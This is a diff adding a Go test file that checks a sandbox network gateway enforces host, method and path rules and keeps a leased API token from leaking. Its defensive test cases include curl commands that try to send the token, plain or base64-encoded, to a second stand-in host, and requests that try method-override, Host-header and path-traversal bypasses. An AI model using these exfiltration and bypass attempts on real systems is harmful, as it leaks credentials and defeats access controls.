@@ -1,0 +1,137 @@
+package attacks
+
+import (
+	"crypto/tls"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/bothy-dev/bothy/internal/gateway/ca"
+	"github.com/bothy-dev/bothy/test/harness"
+)
+
+// service is a real server of the internet of a stage, over TLS, with HTTP/1 and
+// HTTP/2: it tells what it got, and remembers it.
+type service struct {
+	roots string // a file with whom to trust
+
+	mu  sync.Mutex
+	got []string
+}
+
+func newService(t *testing.T, c *harness.Caller) *service {
+	t.Helper()
+	authority, err := ca.New("outside")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &service{roots: c.Write(t, filepath.Join(c.Work, "roots.pem"), string(authority.Certificate()))}
+	server := httptest.NewUnstartedServer(s)
+	server.Config.ErrorLog = log.New(io.Discard, "", 0)
+	server.EnableHTTP2 = true
+	server.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return authority.Leaf(h.ServerName) }}
+	_ = server.Listener.Close()
+	if server.Listener, err = net.Listen("tcp", "[::]:8443"); err != nil {
+		t.Fatal(err)
+	}
+	server.StartTLS()
+	t.Cleanup(server.Close)
+	return s
+}
+
+func (s *service) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	told := fmt.Sprintf("%s %s %s\n%v\n%s\n", r.Proto, r.Method, r.RequestURI, r.Header, body)
+	s.mu.Lock()
+	s.got = append(s.got, told)
+	s.mu.Unlock()
+	w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+	fmt.Fprint(w, told)
+}
+
+// saw gives what arrived since the last call.
+func (s *service) saw() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	text := strings.Join(s.got, "\n")
+	s.got = nil
+	return text
+}
+
+// TestInspectedRequests: a program that knows nothing of Bothy, in a real
+// sandbox, talks to a real server through the gateway; what a rule leaves out,
+// and what a lent secret is, never gets past it, in neither direction (A11, B3,
+// C1, C2, C3, C12).
+func TestInspectedRequests(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		web := newService(t, c)
+		c.Env = append(c.Env, "SSL_CERT_FILE="+web.roots)
+		const api, other = "api.example.net:8443", "other.example.net:8443"
+		s.leads("api.example.net", anyHost4.String())
+		s.leads("other.example.net", anyHost4.String())
+		c.Must(t, "policy", "allow", api, "--method", "GET", "--method", "POST", "--path", "/v1/**")
+		c.Must(t, "policy", "allow", other, "--method", "POST")
+		c.Must(t, "create", "--name", "box", "shell", c.Work)
+		curl := func(args ...string) harness.Result {
+			return c.Run(append([]string{"exec", "box", "curl", "-sS", "-i", "--max-time", "60"}, args...)...)
+		}
+		for _, version := range []string{"--http1.1", "--http2"} {
+			r := curl(version, "https://"+api+"/v1/things?x=1", "-H", "X-Kept: as it is")
+			if r.Code != 0 || !strings.Contains(r.Stdout, "GET /v1/things?x=1") || !strings.Contains(r.Stdout, "X-Kept:[as it is]") {
+				t.Errorf("%s: an allowed request: %v", version, r)
+			}
+			web.saw()
+			for what, args := range map[string][]string{
+				"another path":      {"https://" + api + "/v2/things"},
+				"another method":    {"-X", "DELETE", "https://" + api + "/v1/things"},
+				"a hidden method":   {"-H", "X-HTTP-Method-Override: DELETE", "https://" + api + "/v1/things"},
+				"another authority": {"-H", "Host: " + other, "https://" + api + "/v1/things"},
+				"dots":              {"--path-as-is", "https://" + api + "/v1/../v2"},
+			} {
+				r := curl(append([]string{version}, args...)...)
+				if r.Code != 0 || !strings.Contains(r.Stdout, "bothy: ") || !strings.Contains(r.Stdout, " 403") && !strings.Contains(r.Stdout, " 421") {
+					t.Errorf("%s, %s: %v", version, what, r)
+				}
+			}
+			if got := web.saw(); got != "" {
+				t.Errorf("%s: the server saw %s", version, got)
+			}
+		}
+
+		const value = "ghp_realrealrealrealrealrealrealrealreal"
+		if r := c.RunInput(value, "secret", "set", "token", "--service", "github"); r.Code != 0 {
+			t.Fatal(r)
+		}
+		c.Must(t, "secret", "lease", "token", "--sandbox", "box", "--host", api, "--bearer", "--env", "API_TOKEN")
+		sh := func(script string) harness.Result { return c.Run("exec", "box", "sh", "-c", script) }
+		for _, version := range []string{"--http1.1", "--http2"} {
+			r := sh(`curl -sS -i ` + version + ` https://` + api + `/v1/me -H "Authorization: Bearer $API_TOKEN" -H "X-Api-Key: of-somebody-else" -b session=of-somebody-else`)
+			got := web.saw()
+			if r.Code != 0 || strings.Contains(r.Stdout, value) || !strings.Contains(got, "Bearer "+value) || strings.Contains(got, "somebody") {
+				t.Errorf("%s: %v\nthe server got %s", version, r, got)
+			}
+			for _, data := range []string{`"here: $API_TOKEN"`, `"$(printf %s "$API_TOKEN" | base64 -w0)"`} {
+				r := sh(`curl -sS -i ` + version + ` https://` + other + `/v1/me --data-raw ` + data)
+				if got := web.saw(); strings.Contains(got, "ghp_") || strings.Contains(r.Stdout, " 200") {
+					t.Errorf("%s, %s: %v\nthe server got %s", version, data, r, got)
+				}
+			}
+		}
+		if out := c.Must(t, "secret", "audit", "--json"); !strings.Contains(out, "api.example.net") {
+			t.Errorf("the uses are not told: %s", out)
+		}
+		placeholder := strings.TrimSpace(sh(`echo "$API_TOKEN"`).Stdout)
+		c.Must(t, "secret", "revoke", "--all")
+		if r := curl("https://"+api+"/v1/me", "-H", "Authorization: Bearer "+placeholder); !strings.Contains(r.Stdout, " 403") || web.saw() != "" {
+			t.Errorf("revoked: %v", r)
+		}
+		c.Must(t, "rm", "-f", "box")
+	})
+}
